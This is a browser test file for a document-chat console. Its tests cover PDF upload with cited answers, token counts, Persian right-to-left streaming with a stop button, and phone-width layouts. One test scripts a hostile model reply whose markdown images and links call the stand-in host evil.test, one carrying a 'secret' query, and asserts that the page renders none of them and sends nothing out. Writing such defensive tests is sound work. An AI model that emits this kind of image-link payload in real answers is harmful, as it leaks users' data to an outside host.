"""Whole ways through the console, in a real browser."""

from __future__ import annotations

import io
import re
from typing import Any

import pytest
from reportlab.pdfgen.canvas import Canvas

from tests.provider_replies import Reply

pytestmark = pytest.mark.browser

LINES = (
    "Returns desk for the Zephyr humidifier",
    "",
    "The Zephyr humidifier has a warranty of 41 months.",
    "To use the warranty, bring the silver card that lies in its box.",
    "Repairs of the Zephyr humidifier take nine working days.",
)
PERSIAN = "هزینهٔ ارسال داخل ترکیه چقدر است؟"
SLOW = "ارسال در استانبول ۶۵ لیر است [1] و " + "خیلی " * 200 + "پایان"
INPUT = '[data-testid="stChatInputTextArea"]'


def a_pdf() -> bytes:
    output = io.BytesIO()
    canvas = Canvas(output, pagesize=(595, 842))
    canvas.setTitle("Zephyr humidifier")
    for number, line in enumerate(LINES):
        canvas.drawString(72, 780 - 18 * number, line)
    canvas.save()
    return output.getvalue()


def go_to(page: Any, name: str) -> None:
    page.locator(".st-key-shell_pages").get_by_role("link", name=name).click()


def tokens_used(page: Any) -> int:
    """Read the first tile of the Usage page; 0 where nobody has asked anything."""
    go_to(page, "Usage")
    page.get_by_role("heading", name="Usage").wait_for()
    tile = page.locator(".st-key-usage_tiles").get_by_test_id("stMetricValue").first
    tile.or_(page.get_by_text("Nobody has asked anything")).first.wait_for()
    found = re.search(r"[\d,]+", tile.inner_text()) if tile.count() else None
    return int(found[0].replace(",", "")) if found else 0


def ask(page: Any, question: str) -> None:
    page.locator(INPUT).fill(question)
    page.locator(INPUT).press("Enter")


def test_from_an_uploaded_pdf_to_a_cited_answer_and_its_tokens(
    console: Any, make_page: Any
) -> None:
    page = make_page(locale="en-US")
    page.goto(console.url)
    before = tokens_used(page)

    go_to(page, "Knowledge")
    page.locator('input[type="file"]').set_input_files(
        {"name": "zephyr.pdf", "mimeType": "application/pdf", "buffer": a_pdf()}
    )
    page.get_by_role("button", name="Add files (1)").click()
    page.get_by_test_id("stAlert").get_by_text("zephyr.pdf").wait_for()
    console.wait_until_read()
    (source,) = (file for file in console.files() if file["filename"] == "zephyr.pdf")
    assert source["status"] == "processed"

    go_to(page, "Chat")
    ask(page, "What is the silver card in the box of the Zephyr humidifier for?")
    chip = page.locator('[class*="st-key-chat_citation_"] button:visible')
    chip.first.wait_for()
    assert "Zephyr" in chip.first.inner_text()
    chip.first.click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_text("41 months").first.wait_for()
    dialog.get_by_role("button", name="Download zephyr.pdf").wait_for()
    page.keyboard.press("Escape")
    dialog.wait_for(state="hidden")

    page.get_by_role("button", name="X-ray").click()
    page.get_by_text(re.compile(r"[\d,]+ of 1,500 tokens")).wait_for()
    page.get_by_text("Safety margin").wait_for()  # all of the tabs are drawn
    page.wait_for_load_state("networkidle")
    prompt = page.get_by_test_id("stCode").filter(has_text="bring the silver card")
    for _ in range(10):  # a page that is drawn once more opens its first tab
        page.get_by_role("tab", name="Prompt").click()
        page.wait_for_timeout(500)
        if prompt.is_visible():
            break
    prompt.wait_for()
    shown = re.search(r"([\d,]+) prompt tokens", page.inner_text("body"))
    assert shown is not None
    assert tokens_used(page) - before >= int(shown[1].replace(",", ""))


def test_a_persian_answer_reads_from_the_right_and_stops_when_told(
    console: Any, make_page: Any
) -> None:
    console.provider.script(Reply(text=SLOW, piece_delay=0.1))
    page = make_page(locale="fa-IR")
    page.goto(console.url)
    page.locator(INPUT).wait_for()
    assert page.locator(INPUT).get_attribute("placeholder") == "پرسشی بنویسید"
    ask(page, PERSIAN)
    answer = page.locator('[class*="st-key-rtl-answer-"]').last
    answer.get_by_text("استانبول").wait_for()
    assert answer.evaluate("e => getComputedStyle(e).direction") == "rtl"

    page.get_by_role("button", name="توقف").click()
    assert console.provider.wait_for_hang_up(30)
    page.get_by_text("متوقف شد").wait_for()
    text = answer.inner_text()
    assert "استانبول" in text
    assert "پایان" not in text

    page.reload()
    page.get_by_text("متوقف شد").wait_for()
    assert page.locator('[class*="st-key-rtl-answer-"]').last.inner_text() == text


def test_hostile_words_of_a_model_make_no_request(console: Any, make_page: Any) -> None:
    payload = (
        "Look: ![a](http://evil.test/?q=secret) ![b][r] <img src=http://evil.test/y.png> "
        ":material/home: [click](http://evil.test) http://evil.test $\\LaTeX$ [1]\n\n"
        "[r]: http://evil.test/z.png"
    )
    console.provider.script(Reply(text=payload))
    page = make_page(locale="en-US")
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    page.goto(console.url)
    page.locator(INPUT).wait_for()
    ask(page, "How much is delivery inside Turkey?")
    page.get_by_role("button", name="X-ray").wait_for()
    page.get_by_role("button", name="X-ray").click()
    page.get_by_text(re.compile(r"of 1,500 tokens")).wait_for()
    page.wait_for_timeout(500)
    outside = [url for url in asked_for if not url.startswith((console.url, "data:", "blob:"))]
    assert outside == []
    assert page.locator('[class*="-answer-"] :is(a, img, .katex)').count() == 0


@pytest.mark.parametrize("locale", ["en-US", "fa-IR"])
@pytest.mark.parametrize("path", ["", "documents", "tuning", "usage"])
def test_no_page_is_wider_than_a_phone(
    console: Any, make_page: Any, locale: str, path: str
) -> None:
    page = make_page(locale=locale, viewport={"width": 390, "height": 844})
    page.goto(f"{console.url}/{path}")
    page.locator("h1, h3").first.wait_for()
    page.wait_for_timeout(800)
    content = page.get_by_test_id("stMainBlockContainer")
    assert content.evaluate("e => e.parentElement.scrollWidth <= innerWidth")
    assert page.get_by_test_id("stException").count() == 0
